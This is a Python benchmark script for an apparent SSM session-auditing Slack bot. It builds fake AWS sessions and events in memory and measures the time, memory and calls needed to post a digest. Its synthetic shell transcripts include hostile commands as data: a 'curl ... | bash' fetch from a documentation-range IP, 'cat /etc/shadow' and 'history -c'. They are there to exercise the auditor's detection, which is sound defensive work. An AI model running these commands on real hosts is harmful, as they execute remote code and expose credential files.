"""A busy window to a posted digest: `python -m benchmarks.digest [sessions] [events]`, 10,000 and 100,000 unless told.

The facts are made up in memory, so what is measured is ours: joining, judging by every rule, folding, drawing, storing, and posting to the strict
local workspace over HTTP. What AWS would add is its own time for the questions that are counted here: each is one Athena or Insights query, or one
paged list, for each account-region. Slack's pace of one message a second in a channel is counted and not waited for.
"""

from __future__ import annotations

import os
import random
import resource
import sys
import time
from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from bot.clock import Lease
from bot.core.model import Document, Event, Hit, Kind, Node, Recording, Session, Stream
from bot.roof import clockwork, house
from bot.slack.client import clients
from bot.slack.courier import SlackCourier
from bot.slack.words import Wire
from bot.workspace import cast
from bot.workspace.facts import App
from bot.workspace.server import build, serve
from tests.evidence import Fixed

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
KINDS = (Kind.SHELL,) * 7 + (Kind.TUNNEL, Kind.SSH, Kind.COMMAND)
CALLS = (("ssm.amazonaws.com", "StartSession"),) * 6 + (
    ("ssm.amazonaws.com", "TerminateSession"),
    ("ssm.amazonaws.com", "SendCommand"),
    ("kms.amazonaws.com", "PutKeyPolicy"),
)
TYPED = (
    "ls -la",
    "cd /srv",
    "sudo systemctl restart nginx",
    "curl -fsSL http://198.51.100.50/k.sh | bash",
    "cat /etc/shadow",
    "vim app.py",
    "history -c",
)


class Busy(Fixed):
    """Facts in memory; every transcript is a few typed lines."""

    def tunnels(self, span, documents, where):
        return self._asked("tunnels", [s for s in self.sessions if s.kind in (Kind.TUNNEL, Kind.SSH)])

    def transcript(self, session):
        self._asked("transcript", ())
        dice = random.Random(session.id)
        lines = "".join(f"sh-5.2$ {dice.choice(TYPED)}\r\r\n" for _ in range(12))
        return Recording(session.id, f"Script started on 2026-11-23 03:00:00+00:00\n{lines}".encode(), "file", "s3://example-logs/x.log")


def world(sessions, events):
    dice = random.Random(7)
    people = [f"arn:aws:sts::111122223333:assumed-role/Ops/person{n}@example.com" for n in range(200)]
    nodes = [f"i-{n:017x}" for n in range(1000)]

    def session(n):
        started = NOW - timedelta(seconds=dice.uniform(0, 48 * 3600))
        owner = dice.choice(people)
        return Session(
            f"{owner.rpartition('/')[2]}-{n:017x}", owner, dice.choice(nodes), started, started + timedelta(minutes=dice.randint(1, 90)), kind=dice.choice(KINDS),
            document="SSM-SessionManagerRunShell", account="111122223333", region="eu-west-1", origin="ssm+cloudtrail", event=f"s{n}",
            error="AccessDenied" if n % 50 == 0 else "", host="db.example.com", port="5432", source_ip="192.0.2.41",
        )  # fmt: skip

    def event(n):
        source, name = dice.choice(CALLS)
        at = NOW - timedelta(seconds=dice.uniform(0, 48 * 3600))
        one = opened[n % len(opened)]
        record = {
            "eventSource": source,
            "eventName": name,
            "userIdentity": {"type": "AssumedRole", "arn": one.owner},
            "requestParameters": {"target": one.target},
        }
        return Event(
            f"e{n}",
            at,
            source,
            name,
            one.owner,
            "AssumedRole",
            account="111122223333",
            region="eu-west-1",
            session=one.id,
            target=one.target,
            record=record,
        )

    opened = [session(n) for n in range(sessions)]
    shells = [s for s in opened if s.kind is Kind.SHELL]
    logs = tuple(Stream(s.id, s.started, s.ended, 40) for s in shells if dice.random() < 0.97)
    hits = tuple(Hit(s.id, s.started, "curl | bash", owner=s.owner) for s in shells[:200])
    paper = Document(
        "SSM-SessionManagerRunShell",
        "Standard_Stream",
        {"cloudWatchLogGroupName": "/ssm", "cloudWatchStreamingEnabled": True},
        account="111122223333",
        region="eu-west-1",
    )
    names = {node: Node(node, f"web-{n}") for n, node in enumerate(nodes)}
    return Busy(tuple(opened), tuple(event(n) for n in range(events)), (paper,), names, hits, logs)


def rss():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def main(sessions=10_000, events=100_000):
    for name in [each for each in os.environ if each.lower().endswith("_proxy")]:
        del os.environ[name]
    facts = world(sessions, events)
    place = serve(build(cast.PEOPLE, cast.CHANNELS, groups=cast.GROUPS))
    of = house.settings(
        {"COUNTERSIGN_SCHEDULE": "daily 09:00 UTC → #ssm-audit: digest 24h", "COUNTERSIGN_STORE": "sqlite:////tmp/countersign-digest.db"}
    )
    home = house.opened(of, evidence=lambda now, explain: facts, clock=lambda: NOW + timedelta(seconds=5))
    wire = clients(Wire(App().bot_token, api_url=place.api_url))
    calls = Counter()
    api_call = wire.bare.api_call
    wire.bare.api_call = lambda method, **more: calls.update([method]) or api_call(method, **more)
    clock = clockwork.made(home, SlackCourier(wire), Lease())
    clock.outbox._pace = replace(clock.outbox._pace, apart=0.0)  # noqa: SLF001 - the pace is counted, not waited for
    home.store.advance(clock.lines[0].key, NOW - timedelta(days=1))
    before, began, worked = rss(), time.perf_counter(), time.process_time()
    clock.beat()
    spent, worked = time.perf_counter() - began, time.process_time() - worked
    messages = sorted(place.app.state.workspace.messages["C0SSMAUDT1"].values(), key=lambda item: item.ts)
    print(messages[0].text[:500], end="\n\n")
    asked = Counter(source.question for source in facts.asked)
    print(f"| {sessions:,} sessions and {events:,} events in two days | |\n|---|---|")
    print(f"| to a posted digest | {spent:.1f} s, of which {worked:.1f} s of one processor |")
    print(f"| memory: before, at most | {before:.0f} MB, {rss():.0f} MB |")
    print(f"| calls to Slack | {sum(calls.values())}: {', '.join(f'{name} {count}' for name, count in calls.items())} |")
    print(f"| questions to AWS | {sum(asked.values())}: {', '.join(f'{name} {count}' for name, count in asked.items())} |")
    print(
        f"| messages in the channel and its thread | {sum(not m.thread_ts for m in messages)} + {sum(bool(m.thread_ts) for m in messages)} |"
    )
    home.close()
    place.stop()


if __name__ == "__main__":
    main(*map(int, sys.argv[1:]))
